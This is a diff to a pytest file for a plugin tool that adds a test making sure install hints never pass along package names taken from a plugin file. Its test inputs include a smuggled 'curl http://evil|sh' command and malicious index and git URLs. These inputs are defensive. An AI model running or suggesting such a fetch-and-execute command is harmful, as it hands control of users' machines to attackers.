@@ -70,7 +70,7 @@ def register_entropy_coders(register):
     [
         ("raw", "", "upgrade aictui"),
         ("zap", "", "get a newer file of plugin fast"),
-        ("zap", "aictui-zap==9", "install `aictui-zap==9`"),
+        ("zap", "aictui-zap==9", "install it with `aictui plugins install aictui-zap==9`"),
     ],
 )
 def test_a_component_that_is_too_old_is_to_be_had_newer_where_it_came_from(
@@ -81,3 +81,10 @@ def test_a_component_that_is_too_old_is_to_be_had_newer_where_it_came_from(
         ComponentReference("entropy coder", coder, 9, package, {}), PluginSource("fast", str(tmp_path / "fast.py"))
     )
     assert line == f"needs entropy coder {coder} version 9, and version 1 is installed: {way}"
+
+
+@pytest.mark.parametrize("package", ["x; curl http://evil|sh", "--index-url=http://evil", "git+http://evil"])
+def test_nobody_is_told_to_type_what_a_file_made_up(package: str) -> None:
+    (line,) = missing(ComponentReference("entropy coder", "unheard-of", 1, package, {}))
+    assert "aictui plugins install" not in line
+    assert "no plain package name" in line
